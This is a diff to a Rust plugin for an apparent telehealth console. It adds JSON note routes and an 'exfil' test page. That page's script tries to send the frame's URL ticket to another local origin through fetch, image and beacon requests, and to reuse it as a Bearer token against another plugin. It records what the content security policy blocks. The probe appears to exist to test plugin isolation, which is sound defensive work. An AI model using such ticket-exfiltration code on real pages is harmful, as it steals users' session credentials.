@@ -6,7 +6,9 @@
 //! | `GET /` | greets the caller; a relative link, a form, and a script that reports whether it can reach the console's storage or DOM |
 //! | `POST /notes` | stores the form's `note` for the hospital (kv) and shows it with who saved it |
 //! | `GET /notes` | the stored note |
-use vtelehealth_plugin_sdk::{Error, Plugin, Request, Response, export_plugin, identity, kv};
+//! | `GET /exfil?to=PORT` | a page whose script tries to send its URL (with the frame's ticket) to `http://127.0.0.1:PORT` and to another plugin's routes, and fetches its own JSON route; it reports each outcome and the policy violations in `window.probe` |
+//! | `GET /api/note`, `POST /api/note` `{"note"}` | the stored note as JSON; store one from JSON |
+use vtelehealth_plugin_sdk::{Error, Plugin, Request, Response, export_plugin, identity, json, kv};
 
 struct Pages;
 
@@ -71,6 +73,30 @@ try { r.push('parent:' + (window.parent.document.body ? 'reachable' : 'none')); 
 document.getElementById('probe').textContent = r.join(' ');\
 </script>";
 
+/// Every way out a page's script has, tried with the frame's ticket (its
+/// URL path), then its own JSON route, GET and POST. `to`: another origin's
+/// port. Each outcome goes to `window.probe.out`, each policy violation to
+/// `window.probe.violations`; `window.probe.done` when all have settled.
+const EXFIL_SCRIPT: &str = r#"<script>
+const probe = { out: {}, violations: [], done: false };
+window.probe = probe;
+document.addEventListener('securitypolicyviolation', (e) => probe.violations.push(e.effectiveDirective + ' ' + e.blockedURI));
+const port = new URLSearchParams(location.search).get('to');
+const other = 'http://127.0.0.1:' + port;
+const secret = encodeURIComponent(location.pathname);
+const tryit = async (name, f) => { try { probe.out[name] = 'sent ' + (await f()); } catch (e) { probe.out[name] = 'blocked'; } };
+(async () => {
+  await tryit('other-origin-fetch', async () => (await fetch(other + '/fetch?t=' + secret, { mode: 'no-cors' })).type);
+  await tryit('other-origin-image', () => new Promise((ok, fail) => { const i = new Image(); i.onload = () => ok('loaded'); i.onerror = () => fail(new Error('x')); i.src = other + '/img?t=' + secret; }));
+  try { probe.out['other-origin-beacon'] = navigator.sendBeacon(other + '/beacon', secret) ? 'queued' : 'refused'; } catch (e) { probe.out['other-origin-beacon'] = 'blocked'; }
+  await tryit('other-plugin-post', async () => (await fetch('/hospitals/bv-a/plugins/hostile/echo', { method: 'POST', mode: 'no-cors', body: secret })).type);
+  await tryit('other-plugin-bearer', async () => (await fetch('/hospitals/bv-a/plugins/hostile/whoami', { headers: { authorization: 'Bearer ' + location.pathname.split('/')[3] } })).status);
+  await tryit('own-json-post', async () => { const r = await fetch('api/note', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ note: 'from the page' }) }); return r.status + ' ' + (await r.json()).note; });
+  await tryit('own-json-get', async () => { const r = await fetch('api/note'); return r.status + ' ' + (await r.json()).note; });
+  probe.done = true;
+})();
+</script>"#;
+
 impl Plugin for Pages {
     fn handle(req: Request) -> Result<Response, Error> {
         match (req.method(), req.segments().as_slice()) {
@@ -106,6 +132,22 @@ impl Plugin for Pages {
                         escape(&note.unwrap_or_default())
                     ),
                 ))
+            }
+            ("GET", ["exfil"]) => Ok(page(
+                "exfil",
+                &format!("<p id=\"exfil\">probing</p>{EXFIL_SCRIPT}"),
+            )),
+            ("GET", ["api", "note"]) => {
+                let note = kv::get("note")?.map(|b| String::from_utf8_lossy(&b).into_owned());
+                Ok(Response::ok_json(
+                    &json!({ "note": note.unwrap_or_default(), "by": caller() }),
+                ))
+            }
+            ("POST", ["api", "note"]) => {
+                let body: vtelehealth_plugin_sdk::serde_json::Value = req.json()?;
+                let note = body["note"].as_str().unwrap_or_default().to_owned();
+                kv::set("note", note.as_bytes())?;
+                Ok(Response::ok_json(&json!({ "note": note, "by": caller() })))
             }
             _ => Err(Error::not_found(format!("no page {}", req.path()))),
         }
